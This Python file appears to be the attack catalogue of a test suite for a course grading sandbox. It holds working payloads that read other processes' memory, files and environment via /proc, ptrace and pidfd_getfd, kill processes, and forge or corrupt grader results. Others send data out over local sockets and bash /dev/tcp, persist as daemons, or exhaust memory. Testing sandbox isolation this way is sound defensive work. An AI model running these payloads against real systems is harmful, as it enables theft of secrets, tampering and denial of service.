"""The catalogue of attacks: code that an answer's cell may contain instead of an answer.

Each has one of these effects, and has succeeded if the effect is found in the environment afterwards:

    steals     it reports the secret word
    writes     the results of other students have changed
    ends       a process outside has ended or is stopped
    calls      a server outside received a message
    leaves     another student's trial, run after it, finds what it left
    outlives   one of its processes still runs after grading
    forges     the grader accepts a result for another student
    spies      it reports the secret word of another student's waiting job
    hoards     its processes together use more memory than one of them may
    stops      another student gets no result, or its own result cannot be stored
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    """An attack.

    Args:
        name: a description for the table.
        effect: steals, writes, ends, calls, leaves, outlives, forges, spies, hoards or stops.
        source: the source of the cell.
        accomplice: the source of the other student's cell, which finds what was left.
    """

    name: str
    effect: str
    source: str
    accomplice: str = ""


_LIBC = "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
_LATER = "time.sleep(1.5)\n    open(LOG, 'a').write('forged')\n    os._exit(0)\n"

STEALS = (
    Attack("reads the reference by its path", "steals", "report('it', open(SECRET).read())"),
    Attack("reads another student's notebook", "steals", "report('it', open(OTHER).read())"),
    Attack(
        "looks through the whole machine for a reference",
        "steals",
        "import glob\nfor path in glob.glob('/tmp/kuiper-world-*/reference/*.ipynb'): report(path, open(path).read())",
    ),
    Attack(
        "walks up from Python's own folder",
        "steals",
        "import os, pathlib\nup = os.path.relpath(SECRET, PREFIX)\nreport('it', pathlib.Path(PREFIX, up).read_text())",
    ),
    Attack(
        "reads the home directory of the grader",
        "steals",
        "report('it', open(FOLDER + '/home/.ssh').read())",
    ),
    Attack(
        "reads the file through /proc/self/root",
        "steals",
        "report('it', open('/proc/self/root' + SECRET).read())",
    ),
    Attack(
        "reads the file through another process's root",
        "steals",
        "report('it', open(f'/proc/{VICTIM}/root' + SECRET).read())",
    ),
    Attack(
        "reads the command line of another process",
        "steals",
        "report('it', open(f'/proc/{VICTIM}/cmdline').read())",
    ),
    Attack(
        "reads the command lines of all processes",
        "steals",
        "import glob\nfor path in glob.glob('/proc/[0-9]*/cmdline'):\n"
        "    try:\n        report(path, open(path).read())\n"
        "    except OSError: pass",
    ),
    Attack(
        "reads the environment of another process",
        "steals",
        "import os\nreport('it', open(f'/proc/{VICTIM}/environ').read())\nreport('own', dict(os.environ))",
    ),
    Attack(
        "reads the memory of another process through /proc",
        "steals",
        "for line in open(f'/proc/{VICTIM}/maps'):\n"
        "    span, rights = line.split()[:2]\n"
        "    first, last = (int(word, 16) for word in span.split('-'))\n"
        "    if 'rw' in rights and last - first < 1 << 24:\n"
        "        with open(f'/proc/{VICTIM}/mem', 'rb', 0) as file:\n"
        "            file.seek(first)\n            data = file.read(last - first)\n"
        "        place = data.find(b'secret')\n"
        "        if place >= 0: report('it', str(data[place:place + 40]))",
    ),
    Attack(
        "reads the memory of another process by process_vm_readv",
        "steals",
        _LIBC + "class Span(ctypes.Structure): _fields_ = [('base', ctypes.c_void_p), ('size', ctypes.c_size_t)]\n"
        "line = next(line for line in open(f'/proc/{VICTIM}/maps') if '[stack]' in line)\n"
        "first, last = (int(word, 16) for word in line.split()[0].split('-'))\n"
        "memory = ctypes.create_string_buffer(last - first)\n"
        "here, there = Span(ctypes.addressof(memory), last - first), Span(first, last - first)\n"
        "libc.process_vm_readv(VICTIM, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)\n"
        "place = memory.raw.find(b'secret')\n"
        "report('it', memory.raw[place:place + 40].decode('latin-1') if place >= 0 else '')",
    ),
    Attack(
        "reads the memory of another process as its debugger (ptrace)",
        "steals",
        _LIBC + "import time\nlibc.ptrace(16, VICTIM, None, None)\nos.waitpid(VICTIM, 0x40000000)\n"
        "line = next(line for line in open(f'/proc/{VICTIM}/maps') if '[stack]' in line)\n"
        "first, last = (int(word, 16) for word in line.split()[0].split('-'))\n"
        "libc.ptrace.restype = ctypes.c_long\n"
        "data = b''.join((libc.ptrace(2, VICTIM, ctypes.c_void_p(place), None) & (2**64 - 1)).to_bytes(8, 'little')\n"
        "                for place in range(last - 16384, last, 8))\n"
        "place = data.find(b'secret')\nreport('it', data[place:place + 40].decode('latin-1') if place >= 0 else '')",
    ),
    Attack(
        "takes a file that another process holds open (pidfd_getfd)",
        "steals",
        _LIBC + "handle = os.pidfd_open(GRADER)\n"
        "for number in range(3, 60):\n"
        "    taken = libc.syscall(438, handle, number, 0)\n"
        "    if taken >= 0:\n        try: report(str(number), os.pread(taken, 100, 0).decode())\n"
        "        except OSError: pass",
    ),
    Attack(
        "opens what the grader has open, through /proc",
        "steals",
        "import glob\nfor path in glob.glob(f'/proc/{GRADER}/fd/*'):\n"
        "    try:\n        if 'held' in __import__('os').readlink(path): report(path, open(path).read())\n"
        "    except OSError: pass",
    ),
    Attack(
        "reads the judge's rules in the original package",
        "steals",
        "import glob, sys\nsys.path[:0] = [PACKAGE]\n"
        "for path in glob.glob(PACKAGE + '/kuiper_edu/course/exercises/course4/*/exercise.py'):\n"
        "    if 'Equal(' in open(path).read(): report('it', WORD_OF_THE_JUDGE)",
    ),
)

WRITES = (
    Attack("adds to the results of others", "writes", "open(LOG, 'a').write('forged')"),
    Attack(
        "replaces the results by a rename",
        "writes",
        "import os\nopen(FOLDER + '/new', 'w').write('forged')\nos.replace(FOLDER + '/new', LOG)",
    ),
    Attack(
        "writes through a link that it made",
        "writes",
        "import os, tempfile\nlink = tempfile.mkdtemp() + '/link'\n"
        "os.symlink(LOG, link)\nopen(link, 'a').write('forged')",
    ),
    Attack(
        "starts a shell that writes",
        "writes",
        "import os\nos.system(f'echo forged >> {LOG}')",
    ),
    Attack(
        "becomes another program (exec) that writes",
        "writes",
        "import os, sys\nos.execv(sys.executable, [sys.executable, '-c', f'open({LOG!r}, \"a\").write(\"forged\")'])",
    ),
    Attack(
        "writes by a raw system call from C",
        "writes",
        _LIBC + "file = libc.open(LOG.encode(), 1 | 1024)\nlibc.write(file, b'forged', 6)",
    ),
)

ENDS = (
    Attack("kills another process", "ends", "import os\nos.kill(VICTIM, 9)"),
    Attack("stops another process", "ends", "import os\nos.kill(VICTIM, 19)"),
    Attack(
        "signals another process by its handle (pidfd)",
        "ends",
        "import os, signal\nsignal.pidfd_send_signal(os.pidfd_open(VICTIM), 9)",
    ),
    Attack(
        "kills every process of its user that it can name",
        "ends",
        "import os\nfor path in os.listdir('/proc'):\n"
        "    if path.isdigit() and int(path) == VICTIM: os.kill(int(path), 9)",
    ),
    Attack(
        "takes another process down as its debugger",
        "ends",
        _LIBC
        + "libc.ptrace(16, VICTIM, None, None)\nos.waitpid(VICTIM, 0x40000000)\nlibc.ptrace(8, VICTIM, None, None)",
    ),
    Attack(
        "lowers another process's limits until it cannot continue (prlimit)",
        "ends",
        "import os, resource\nresource.prlimit(VICTIM, resource.RLIMIT_CPU, (0, 0))\nos.kill(VICTIM, 24)",
    ),
)

CALLS = (
    Attack(
        "sends an answer over the network (TCP)",
        "calls",
        "import socket\nsocket.create_connection(('127.0.0.1', PORT), 2).sendall(b'hello')",
    ),
    Attack(
        "sends an answer over the network (UDP)",
        "calls",
        "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'hello', ('127.0.0.1', PORT))",
    ),
    Attack(
        "talks to a daemon by its socket's file",
        "calls",
        "import socket\none = socket.socket(socket.AF_UNIX)\none.connect(SOCKET)\none.sendall(b'hello')",
    ),
    Attack(
        "talks to a daemon by an abstract socket",
        "calls",
        "import socket\none = socket.socket(socket.AF_UNIX)\none.connect(ABSTRACT)\none.sendall(b'hello')",
    ),
    Attack(
        "uses a system program to connect (bash's /dev/tcp)",
        "calls",
        "import subprocess\nsubprocess.run(['bash', '-c', f'echo hello > /dev/tcp/127.0.0.1/{PORT}'], timeout=5)",
    ),
    Attack(
        "sends an HTTP request",
        "calls",
        "import urllib.request\nurllib.request.urlopen(f'http://127.0.0.1:{PORT}/hello', timeout=1)",
    ),
)

_READ_FILE = "import os\nif os.path.exists(PLACE): report('left', open(PLACE).read())"

LEAVES = (
    Attack(
        "leaves a file in /tmp",
        "leaves",
        "open('/tmp/k-left', 'w').write('left')",
        _READ_FILE.replace("PLACE", "'/tmp/k-left'"),
    ),
    Attack(
        "leaves a file in /dev/shm",
        "leaves",
        "open('/dev/shm/k-left', 'w').write('left')",
        _READ_FILE.replace("PLACE", "'/dev/shm/k-left'"),
    ),
    Attack(
        "leaves a file in /var/tmp",
        "leaves",
        "open('/var/tmp/k-left', 'w').write('left')",
        _READ_FILE.replace("PLACE", "'/var/tmp/k-left'"),
    ),
    Attack(
        "leaves a file in the course's copy",
        "leaves",
        "import kuiper_edu, pathlib\n(pathlib.Path(kuiper_edu.__file__).parent / 'left.txt').write_text('left')",
        "import kuiper_edu, pathlib\n"
        "report('left', (pathlib.Path(kuiper_edu.__file__).parent / 'left.txt').read_text())",
    ),
    Attack(
        "leaves a file in the working directory",
        "leaves",
        "open('left.txt', 'w').write('left')",
        "report('left', open('left.txt').read())",
    ),
    Attack(
        "leaves shared memory (System V)",
        "leaves",
        _LIBC + "key = libc.shmget(7351, 4096, 0o1666)\nlibc.shmat.restype = ctypes.c_void_p\n"
        "ctypes.memmove(libc.shmat(key, None, 0), b'left', 4)",
        _LIBC + "key = libc.shmget(7351, 4096, 0o666)\nlibc.shmat.restype = ctypes.c_void_p\n"
        "report('left', ctypes.string_at(libc.shmat(key, None, 0), 4).decode())\nlibc.shmctl(key, 0, None)",
    ),
    Attack(
        "leaves a message in a queue (System V)",
        "leaves",
        _LIBC + "queue = libc.msgget(7351, 0o1666)\n"
        "class Note(ctypes.Structure): _fields_ = [('kind', ctypes.c_long), ('text', ctypes.c_char * 4)]\n"
        "libc.msgsnd(queue, ctypes.byref(Note(1, b'left')), 4, 0)",
        _LIBC + "queue = libc.msgget(7351, 0o666)\n"
        "class Note(ctypes.Structure): _fields_ = [('kind', ctypes.c_long), ('text', ctypes.c_char * 4)]\n"
        "note = Note()\nif libc.msgrcv(queue, ctypes.byref(note), 4, 0, 0o4000) > 0:\n"
        "    report('left', note.text.decode())\n"
        "libc.msgctl(queue, 0, None)",
    ),
    Attack(
        "leaves a semaphore's number (System V)",
        "leaves",
        _LIBC + "one = libc.semget(7352, 1, 0o1666)\nlibc.semctl(one, 0, 16, 1234)",
        _LIBC + "one = libc.semget(7352, 1, 0o666)\n"
        "if one >= 0 and libc.semctl(one, 0, 12) == 1234: report('left', 'left')\nlibc.semctl(one, 0, 0)",
    ),
    Attack(
        "leaves a key in the kernel's keyring",
        "leaves",
        _LIBC + "libc.syscall(248, b'user', b'k-left', b'left', 4, -4)",
        _LIBC + "memory = ctypes.create_string_buffer(16)\nkey = libc.syscall(249, b'user', b'k-left', None, 0)\n"
        "size = libc.syscall(250, 11, key, memory, 16)\nif size > 0: report('left', memory.raw[:size].decode())",
    ),
    Attack(
        "rewrites a module of the course for later trials",
        "leaves",
        "import kuiper_edu\nopen(kuiper_edu.__file__, 'a').write('# left')",
        "import kuiper_edu\nif open(kuiper_edu.__file__).read().endswith('# left'): report('left', 'left')",
    ),
)

OUTLIVES = (
    Attack(
        "keeps running in the background (fork, setsid)",
        "outlives",
        "import os, time\nif not os.fork():\n    os.setsid()\n    " + _LATER + "time.sleep(0.5)",
    ),
    Attack(
        "keeps running as a daemon (fork, setsid, fork)",
        "outlives",
        "import os, time\nif not os.fork():\n    os.setsid()\n    if os.fork(): os._exit(0)\n    "
        + _LATER
        + "os.wait()\ntime.sleep(0.2)",
    ),
    Attack(
        "keeps running as a separate program (nohup)",
        "outlives",
        "import subprocess\nargs = ['nohup', 'sh', '-c', f'sleep 1.5; echo forged >> {LOG}']\n"
        "subprocess.Popen(args, start_new_session=True)",
    ),
)

FORGES = (
    Attack(
        "writes a result for another student into the grader's pipe",
        "forges",
        "import glob, json, os\n"
        "line = json.dumps({'id': 'bob', 'status': 'ran', 'values': [['forged', 1]], 'error': None,\n"
        "                   'printed': '', 'warned': ''})\n"
        ""
        "for path in glob.glob(f'/proc/{os.getppid()}/fd/*'):\n"
        "    try:\n"
        "        if 'pipe' in os.readlink(path):\n"
        "            with open(path, 'wb', 0) as file: file.write(line.encode() + b'\\n')\n"
        "    except OSError: pass",
    ),
    Attack(
        "kills the process that forks the trials",
        "forges",
        "import os\nos.kill(os.getppid(), 9)",
    ),
)

SPIES = (
    Attack(
        "reads other students' jobs in the memory inherited from the fork",
        "spies",
        "import gc\nfor one in gc.get_objects():\n"
        "    if isinstance(one, dict) and 'cells' in one: report('it', repr(one)[:2000])",
    ),
)

HOARDS = (
    Attack(
        "takes 3 GB of memory by ten children, each within the limit",
        "hoards",
        _LIBC + "import time\nreading, writing = os.pipe()\n"
        "for _ in range(10):\n    if not libc.fork():\n"
        "        kept = bytearray(b'x') * (300 << 20)\n        os.write(writing, b'x')\n        time.sleep(60)\n"
        "for _ in range(10): os.read(reading, 1)\nreport('held', 1)",
    ),
)

_EVERY_PIPE = (
    "import json, os\ndef say(text):\n    for number in range(3, 64):\n        try:\n            left = text\n"
)
_EVERY_PIPE += "            while left: left = left[os.write(number, left):]\n        except OSError: pass\n"
_OUTCOME = "said = {'status': 'ran', 'values': [], 'error': None, 'printed': '', 'warned': ''}\n"
_SAY_IT = "say(json.dumps(said).encode())\nos._exit(0)"

STOPS = (
    Attack("floods its pipe with 200 MB", "stops", _EVERY_PIPE + "for _ in range(200): say(b'[' * (1 << 20))"),
    Attack(
        "leaves a child behind that holds its pipe open",
        "stops",
        "import os, time\nif not os.fork():\n    os.setsid()\n    time.sleep(60)\nos._exit(0)",
    ),
    Attack(
        "writes a result of other types into its pipe",
        "stops",
        _EVERY_PIPE
        + _OUTCOME
        + "said |= {'status': ['ran'], 'error': {'name': 1, 'text': [2]}, 'warned': 3}\n"
        + _SAY_IT,
    ),
    Attack(
        "writes a result that is nested 490 deep",
        "stops",
        _EVERY_PIPE + _OUTCOME + "said['values'] = [['deep', json.loads('[' * 490 + ']' * 490)]]\n" + _SAY_IT,
    ),
    Attack(
        "writes a result whose texts are lone surrogates",
        "stops",
        _EVERY_PIPE + _OUTCOME + "said |= {'values': [['\\ud800', '\\ud800']], 'printed': '\\ud800'}\n" + _SAY_IT,
    ),
    Attack(
        "raises an error whose name and text contain a lone surrogate and terminal commands",
        "stops",
        "raise type('\\udfff', (ValueError,), {})('\\ud800 \\x1b[2J \\u202e')",
    ),
)

ATTACKS = (*STEALS, *WRITES, *ENDS, *CALLS, *LEAVES, *OUTLIVES, *FORGES, *SPIES, *HOARDS, *STOPS)
